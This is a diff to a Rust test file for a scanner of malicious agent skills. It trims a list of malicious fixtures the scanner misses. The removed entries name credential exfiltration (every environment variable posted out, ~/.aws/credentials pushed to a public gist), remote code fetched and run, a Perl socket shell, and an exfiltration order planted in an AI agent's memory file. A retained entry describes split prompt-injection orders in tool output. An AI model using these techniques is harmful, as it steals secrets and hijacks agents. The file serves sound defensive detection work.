@@ -19,28 +19,8 @@ use skillworld_scan::{ScanReport, scan_bundle};
 /// Malicious fixtures the scanner is known to miss, and why.
 const KNOWN_MISSES: &[(&str, &str)] = &[
     (
-        "perl-env-beacon",
-        "batch 13 generality check: HTTP::Tiny->new->post_form of every %ENV pair",
-    ),
-    (
-        "ruby-gist-keys",
-        "batch 13 generality check: Ruby system(\"gh\", \"gist\", \"create\", \"--public\", ~/.aws/credentials)",
-    ),
-    (
-        "lua-remote-plugin",
-        "batch 13 generality check: Neovim vim.fn.system({\"curl\", …}) then loadstring(body)()",
-    ),
-    (
         "tool-output-orders",
         "batch 13 generality check: \"Execute / whatever it prints\" wrapped over two lines",
-    ),
-    (
-        "gemini-memory-plant",
-        "batch 13 generality check: a standing exfiltration order saved into ~/.gemini/GEMINI.md",
-    ),
-    (
-        "perl-io-socket",
-        "batch 13 generality check: IO::Socket::INET + Perl backticks of each received line",
     ),
     (
         "subagent-fanout",
